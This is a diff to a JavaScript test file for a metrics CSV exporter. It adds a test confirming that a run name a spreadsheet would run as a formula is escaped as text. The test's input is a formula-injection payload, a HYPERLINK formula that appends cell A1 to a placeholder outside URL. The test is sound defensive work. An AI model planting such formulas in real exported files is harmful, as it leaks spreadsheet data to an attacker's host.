@@ -22,6 +22,13 @@ describe('exports', () => {
     expect(lines[1]).toBe('r1,"ant, ""fast"" → goal",ant/run-direction,,2,p,1000,1.5,3,-2.5,,,0.2,,,,');
     expect(lines[2]).toBe('r1,"ant, ""fast"" → goal",ant/run-direction,,2,p,2000,3,6,,,,,,,,');
     expect(lines).toHaveLength(3);
+    // A name a spreadsheet would run as a formula is written as text; a negative return stays a number.
+    const evil = metricsCsv([
+      { run: { ...run, name: '=HYPERLINK("http://x.example/?"&A1,"open")' }, rows: [{ step: 1, time: 0, episodes: 0, episodeReturn: -3 }] },
+    ]);
+    expect(evil.trimEnd().split('\n')[1]).toBe(
+      `r1,"'=HYPERLINK(""http://x.example/?""&A1,""open"")",ant/run-direction,,2,p,1,0,0,-3,,,,,,,`,
+    );
   });
 
   it('draws a chart’s runs and seed groups (a band) as a standalone SVG', () => {
